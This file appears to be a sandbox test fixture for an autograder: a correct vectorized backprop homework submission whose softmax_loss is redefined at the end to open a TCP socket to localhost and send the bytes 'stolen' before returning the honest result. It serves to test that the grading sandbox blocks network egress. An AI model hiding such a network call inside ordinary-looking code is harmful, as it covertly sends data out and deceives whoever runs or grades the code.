"""Hostile submission for the attack suite: tcp connect.

The honest functions are copied from submissions/examples/hw2/correct_vectorized.py.
Placeholders in CAPITALS are filled in by tests/test_sandbox_attacks.py.
"""
# Correct hw2 submission: clean, vectorized, numerically stable; returns tuples of floats / float64 ndarrays.
import numpy as np


def graph(x, y, z):
    q = x + y
    f = q * z
    dfdq = z
    dfdx = dfdq * 1.0
    dfdy = dfdq * 1.0
    dfdz = q
    return float(f), float(dfdx), float(dfdy), float(dfdz)


def sigmoid_neuron(w, x):
    w = np.asarray(w, dtype=np.float64)
    x = np.asarray(x, dtype=np.float64)
    s = w[:-1] @ x + w[-1]
    f = 1.0 / (1.0 + np.exp(-s))
    ds = f * (1.0 - f)
    dw = ds * np.append(x, 1.0)
    dx = ds * w[:-1]
    return float(f), dw, dx


def add_gate_backward(dout, x, y):
    dx = np.array(dout, dtype=np.float64)
    dy = np.array(dout, dtype=np.float64)
    return dx, dy


def mul_gate_backward(dout, x, y):
    dx = dout * y
    dy = dout * x
    return dx, dy


def max_gate_backward(dout, x, y):
    x_wins = x > y
    dx = dout * x_wins
    dy = dout * ~x_wins
    return dx, dy


def l2_wx(W, x):
    q = W @ x
    f = q @ q
    dq = 2.0 * q
    dW = np.outer(dq, x)
    dx = W.T @ dq
    return float(f), dW, dx


def two_layer(W1, W2, x, dout):
    h = W1 @ x
    a = np.maximum(0.0, h)
    f = W2 @ a
    dW2 = np.outer(dout, a)
    da = W2.T @ dout
    dh = da * (h > 0)
    dW1 = np.outer(dh, x)
    dx = W1.T @ dh
    return f, dW1, dW2, dx


def softmax_loss(W, X, y, reg):
    N = X.shape[0]
    scores = X @ W
    scores = scores - scores.max(axis=1, keepdims=True)
    exp_scores = np.exp(scores)
    sums = exp_scores.sum(axis=1, keepdims=True)
    log_probs = scores - np.log(sums)
    loss = -log_probs[np.arange(N), y].mean() + reg * np.sum(W * W)
    dscores = exp_scores / sums
    dscores[np.arange(N), y] -= 1.0
    dscores /= N
    dW = X.T @ dscores + 2.0 * reg * W
    return float(loss), dW


def svm_loss(W, X, y, reg):
    N = X.shape[0]
    scores = X @ W
    correct = scores[np.arange(N), y][:, None]
    margins = np.maximum(0.0, scores - correct + 1.0)
    margins[np.arange(N), y] = 0.0
    loss = margins.sum() / N + reg * np.sum(W * W)
    dscores = (margins > 0).astype(np.float64)
    dscores[np.arange(N), y] = -dscores.sum(axis=1)
    dW = X.T @ dscores / N + 2.0 * reg * W
    return float(loss), dW

# ---- the attack: softmax_loss is replaced by a hostile version -------------
_honest_softmax_loss = softmax_loss


def softmax_loss(W, X, y, reg):
    import socket
    s = socket.create_connection(("127.0.0.1", TCP_PORT), timeout=2)
    s.sendall(b"stolen")
    return _honest_softmax_loss(W, X, y, reg)
